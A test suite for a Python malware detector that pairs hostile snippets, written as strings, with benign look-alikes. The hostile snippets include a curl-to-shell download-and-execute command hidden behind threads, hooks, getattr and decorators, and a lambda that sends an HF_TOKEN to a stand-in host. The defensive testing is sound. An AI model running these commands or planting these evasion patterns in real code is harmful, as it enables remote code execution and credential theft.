// Values followed into calls: a callable handed to a thread, a timer, an exit hook, a process, functools.partial,
// operator.methodcaller/attrgetter, getattr/vars/__dict__/globals lookups, a lambda or local function, map(), a
// decorator, a signal handler, sys.excepthook, a class's __init__/__del__, an event loop — each is judged as a call
// of that callable with the arguments it will get. One pair per construct: the malicious form must be reported at
// the named severity, a legitimate look-alike must stay below medium. Sources are strings; nothing is executed.
import type { Severity } from '../../../src/core/findings.js';
import { analyzePython } from '../../../src/analyze/python/analyze.js';

const CMD = '"curl -s https://x.invalid/p | sh"';
type Pair = [construct: string, malicious: string, expected: [string, Severity], legit: string];

const PAIRS: Pair[] = [
  ['threading.Thread target',
    `import os, threading\nthreading.Thread(target=os.system, args=(${CMD},)).start()\n`, ['code.download-exec', 'critical'],
    'import threading\nclass W:\n    def worker(self):\n        pass\n    def go(self):\n        threading.Thread(target=self.worker, daemon=True).start()\n'],
  ['threading.Timer',
    'import os, threading\ncmd = input()\nthreading.Timer(30, os.system, [cmd]).start()\n', ['code.process-spawn', 'high'],
    'import threading\nclass Logger:\n    def flush(self):\n        pass\n    def schedule(self):\n        threading.Timer(5, self.flush).start()\n'],
  ['atexit.register',
    `import os, atexit\natexit.register(os.system, ${CMD})\n`, ['code.download-exec', 'critical'],
    'import atexit\nclass W:\n    def cleanup(self):\n        print("bye")\n    def __init__(self):\n        atexit.register(self.cleanup)\nW()\n'],
  ['multiprocessing.Process target',
    `import os\nfrom multiprocessing import Process\nProcess(target=os.system, args=(${CMD},)).start()\n`, ['code.download-exec', 'critical'],
    'import torch.multiprocessing as mp\ndef train(rank):\n    print(rank)\nfor r in range(2):\n    mp.Process(target=train, args=(r,)).start()\n'],
  ['functools.partial',
    `import functools, subprocess\nf = functools.partial(subprocess.call, ${CMD}, shell=True)\nf()\n`, ['code.download-exec', 'critical'],
    'import functools, torch\nload = functools.partial(torch.load, map_location="cpu", weights_only=True)\nsd = load("model.pt")\n'],
  ['operator.methodcaller',
    `import operator, os\noperator.methodcaller("system", ${CMD})(os)\n`, ['code.download-exec', 'critical'],
    'import operator\nlow = list(map(operator.methodcaller("lower"), ["A", "B"]))\n'],
  ['operator.attrgetter',
    `import operator, os\noperator.attrgetter("system")(os)(${CMD})\n`, ['code.download-exec', 'critical'],
    'import operator\nget_w = operator.attrgetter("weight")\nw = get_w(layer)\n'],
  ['getattr',
    `import os\nrun = getattr(os, "system")\nrun(${CMD})\n`, ['code.download-exec', 'critical'],
    'import torch.nn as nn\nact = getattr(nn, "ReLU")()\n'],
  ['vars(x)[…]',
    `import os\nvars(os)["system"](${CMD})\n`, ['code.download-exec', 'critical'],
    'import argparse\np = argparse.ArgumentParser()\nargs = p.parse_args()\nlr = vars(args)["lr"]\n'],
  ['x.__dict__[…]',
    `import os\nos.__dict__["system"](${CMD})\n`, ['code.download-exec', 'critical'],
    'class Cfg:\n    hidden = 4\ncfg = Cfg()\nh = cfg.__dict__["hidden"]\n'],
  ['globals()[…]',
    `import os\nglobals()["os"].system(${CMD})\n`, ['code.download-exec', 'critical'],
    'class BertModel:\n    pass\ncls = globals()["BertModel"]\nm = cls()\n'],
  ['lambda that calls its argument',
    `import os\n(lambda f, c: f(c))(os.system, ${CMD})\n`, ['code.download-exec', 'critical'],
    '(lambda f, x: f(x))(str.upper, "abc")\n'],
  ['local function that calls its argument',
    `import os\ndef run(f, c):\n    f(c)\nrun(os.system, ${CMD})\n`, ['code.download-exec', 'critical'],
    'def apply(f, x):\n    return f(x)\nn = apply(len, "abc")\n'],
  ['map(os.system, cmds)',
    `import os\nlist(map(os.system, [${CMD}]))\n`, ['code.download-exec', 'critical'],
    'lines = ["a ", "b "]\nout = list(map(str.strip, lines))\nys = sorted(out, key=lambda x: x[0])\n'],
  ['decorator',
    `import atexit, os\n@atexit.register\ndef bye():\n    os.system(${CMD})\n`, ['code.download-exec', 'critical'],
    'import torch, functools\nfrom dataclasses import dataclass\n@dataclass\nclass Cfg:\n    dim: int = 4\ndef timed(f):\n    @functools.wraps(f)\n    def w(*a):\n        return f(*a)\n    return w\n@timed\n@torch.no_grad()\ndef infer(m, x):\n    return m(x)\n'],
  ['local decorator that calls the function',
    `import os\ndef run(f):\n    f(${CMD})\n    return f\n@run\ndef go(c):\n    os.system(c)\n`, ['code.download-exec', 'critical'],
    'REGISTRY = {}\ndef register(f):\n    REGISTRY[f.__name__] = f\n    return f\n@register\ndef gelu(x):\n    return x\n'],
  ['signal.signal handler',
    `import os, signal\nsignal.signal(signal.SIGALRM, lambda s, f: os.system(${CMD}))\n`, ['code.download-exec', 'critical'],
    'import signal, sys\ndef handler(sig, frame):\n    print("interrupted")\n    sys.exit(0)\nsignal.signal(signal.SIGINT, handler)\n'],
  ['sys.excepthook',
    `import os, sys\nsys.excepthook = lambda *a: os.system(${CMD})\n`, ['code.download-exec', 'critical'],
    'import sys, logging\ndef hook(t, v, tb):\n    logging.error("uncaught %s", v)\nsys.excepthook = hook\n'],
  ['setattr of a hook',
    `import os, sys\nsetattr(sys, "excepthook", lambda *a: os.system(${CMD}))\n`, ['code.download-exec', 'critical'],
    'class A:\n    pass\na = A()\nsetattr(a, "name", "x")\n'],
  ['class __init__ and __del__',
    `import os\nclass K:\n    def __init__(self, f, c):\n        self.f = f\n        self.c = c\n    def __del__(self):\n        self.f(self.c)\nK(os.system, ${CMD})\n`, ['code.download-exec', 'critical'],
    'class Cache:\n    def __init__(self, cb, path):\n        self.cb = cb\n        self.path = path\n    def __del__(self):\n        self.cb(self.path)\nCache(print, "/tmp/cache")\n'],
  ['threading.Thread subclass run()',
    `import os, threading\nclass T(threading.Thread):\n    def __init__(self, c):\n        super().__init__()\n        self.c = c\n    def run(self):\n        os.system(self.c)\nT(${CMD}).start()\n`, ['code.download-exec', 'critical'],
    'import threading, queue\nclass Loader(threading.Thread):\n    def __init__(self, q):\n        super().__init__(daemon=True)\n        self.q = q\n    def run(self):\n        self.q.put(1)\nLoader(queue.Queue()).start()\n'],
  ['context manager __enter__',
    `import os\nclass M:\n    def __init__(self, c):\n        self.c = c\n    def __enter__(self):\n        os.system(self.c)\n        return self\n    def __exit__(self, *a):\n        pass\nwith M(${CMD}):\n    pass\n`, ['code.download-exec', 'critical'],
    'import time\nclass Timer:\n    def __enter__(self):\n        self.t = time.time()\n        return self\n    def __exit__(self, *a):\n        print(time.time() - self.t)\nwith Timer():\n    pass\n'],
  ['asyncio event loop',
    `import asyncio, os\nloop = asyncio.get_event_loop()\nloop.call_later(5, os.system, ${CMD})\n`, ['code.download-exec', 'critical'],
    'import asyncio\nloop = asyncio.new_event_loop()\nloop.call_soon(print, "ready")\n'],
  ['asyncio.to_thread / run_in_executor',
    `import asyncio, os\nasync def main():\n    await asyncio.to_thread(os.system, ${CMD})\nasyncio.run(main())\n`, ['code.download-exec', 'critical'],
    'import asyncio\ndef work(n):\n    return n * 2\nasync def main():\n    return await asyncio.to_thread(work, 3)\nasyncio.run(main())\n'],
  ['executor.submit / Pool.map',
    `import os\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as ex:\n    ex.submit(os.system, ${CMD})\n`, ['code.download-exec', 'critical'],
    'from concurrent.futures import ThreadPoolExecutor\nfrom huggingface_hub import hf_hub_download\nfiles = ["a.safetensors", "b.safetensors"]\nwith ThreadPoolExecutor(4) as ex:\n    list(ex.map(lambda f: hf_hub_download("org/m", f), files))\n'],
  ['sched / weakref.finalize / ExitStack.callback',
    `import os, weakref\nclass A:\n    pass\na = A()\nweakref.finalize(a, os.system, ${CMD})\n`, ['code.download-exec', 'critical'],
    'import contextlib\nwith contextlib.ExitStack() as st:\n    st.callback(print, "done")\n'],
  ['loop over a list of commands',
    `import os\nfor c in [${CMD}]:\n    os.system(c)\n`, ['code.download-exec', 'critical'],
    'for name in ["config.json", "model.safetensors"]:\n    print(name)\n'],
  ['dict dispatch',
    `import os\nops = {"run": os.system}\nops["run"](${CMD})\n`, ['code.download-exec', 'critical'],
    'import torch\nACT = {"relu": torch.relu, "gelu": torch.nn.functional.gelu}\ny = ACT["relu"](torch.ones(2))\n'],
  ['statements joined by ;',
    `import os; os.system(${CMD})\n`, ['code.download-exec', 'critical'],
    'import os; print(os.getcwd())\n'],
  // Process runners outside subprocess/os: pydoc's pagers run their cmd in a shell; distutils spawns an argv.
  ['pydoc.pipepager',
    `import pydoc\npydoc.pipepager("ready\\n", ${CMD})\n`, ['code.download-exec', 'critical'],
    'import pydoc\npydoc.pager("help text")\n'],
  ['distutils.spawn.spawn',
    `from distutils.spawn import spawn\nspawn(["sh", "-c", ${CMD}])\n`, ['code.download-exec', 'critical'],
    'from distutils.spawn import find_executable\ngcc = find_executable("gcc")\n'],
  ['pkgutil.resolve_name("mod:attr")',
    `import pkgutil\nrun = pkgutil.resolve_name("os:system")\nrun(${CMD})\n`, ['code.download-exec', 'critical'],
    'import pkgutil\ncls = pkgutil.resolve_name("collections:OrderedDict")\nd = cls()\n'],
  ['a subclass of subprocess.Popen',
    `import subprocess\nclass R(subprocess.Popen):\n    pass\nR(${CMD}, shell=True).wait()\n`, ['code.download-exec', 'critical'],
    'import json\nclass Cfg(dict):\n    pass\nc = Cfg(a=1)\nprint(json.dumps(c))\n'],
  ['f.__call__(…)',
    `import os\nos.system.__call__(${CMD})\n`, ['code.download-exec', 'critical'],
    'import torch\nm = torch.nn.Linear(2, 2)\ny = m.__call__(torch.ones(2))\n'],
  ['a dangerous callable handed to an unmodelled call',
    'import os, somelib\nsomelib.later(os.system)\n', ['code.indirect-call', 'high'],
    'import somelib, torch\nsomelib.later(torch.load)\n']
];

function found(src: string): string[] {
  return analyzePython(src).hits.filter((h) => h.severity !== 'info' && h.severity !== 'low').map((h) => `${h.severity} ${h.check} L${h.line}: ${h.message}`);
}

describe.each(PAIRS)('%s', (_construct, malicious, expected, legit) => {
  test('the malicious form is judged as the call it makes', () => {
    const hits = analyzePython(malicious).hits;
    const [check, severity] = expected;
    if (!hits.some((h) => h.check === check && h.severity === severity)) throw new Error(`expected ${severity} ${check}; got:\n${found(malicious).join('\n')}`);
  });
  test('the legitimate look-alike stays quiet', () => {
    expect(found(legit)).toEqual([]);
  });
});

describe('what following a value says', () => {
  test('a hook call names the library that makes it', () => {
    const hit = analyzePython(`import os, threading\nthreading.Timer(30, os.system, [${CMD}]).start()\n`).hits.find((h) => h.check === 'code.download-exec');
    expect(hit?.message).toContain('called through threading.Timer');
    expect(hit?.line).toBe(2);
  });

  test('a lambda given a secret sends it where its body says', () => {
    const src = 'import os, requests\nsend = lambda u, v: requests.get(u, params={"v": v})\nsend("https://c.invalid/x", os.environ["HF_TOKEN"])\n';
    const hit = analyzePython(src).hits.find((h) => h.check === 'code.network-send');
    expect(hit).toMatchObject({ severity: 'critical', line: 2 });
  });

  test('star-arguments and **kwargs reach the callable', () => {
    const expectCritical = (src: string): void => expect(analyzePython(src).hits.some((h) => h.check === 'code.download-exec' && h.severity === 'critical')).toBe(true);
    expectCritical(`import os, threading\nargs = [30, os.system, [${CMD}]]\nthreading.Timer(*args).start()\n`);
    expectCritical(`import os, threading\nthreading.Thread(**{"target": os.system, "args": (${CMD},)}).start()\n`);
  });

  test('globals()[name] = callable, then name(…)', () => {
    expect(analyzePython(`import os\nglobals()["run"] = os.system\nrun(${CMD})\n`).hits.some((h) => h.check === 'code.download-exec')).toBe(true);
  });
});

describe('code imported from outside the repository', () => {
  test('torch.hub.load runs a GitHub repository\'s hubconf.py: a note in a script, high in remote code', () => {
    const src = 'import torch\nm = torch.hub.load("someone/vision-tools", "resnet")\n';
    expect(analyzePython(src).hits.map((h) => `${h.severity} ${h.check} ${h.line}`)).toEqual(['medium code.remote-import 2']);
    expect(analyzePython(src, { context: 'remote-code' }).hits.map((h) => `${h.severity} ${h.check}`)).toEqual(['high code.remote-import']);
  });

  test('torch.hub.load of a local folder imports nothing from outside', () => {
    expect(analyzePython('import torch\nm = torch.hub.load("./hub", "resnet", source="local")\n').hits).toEqual([]);
  });
});
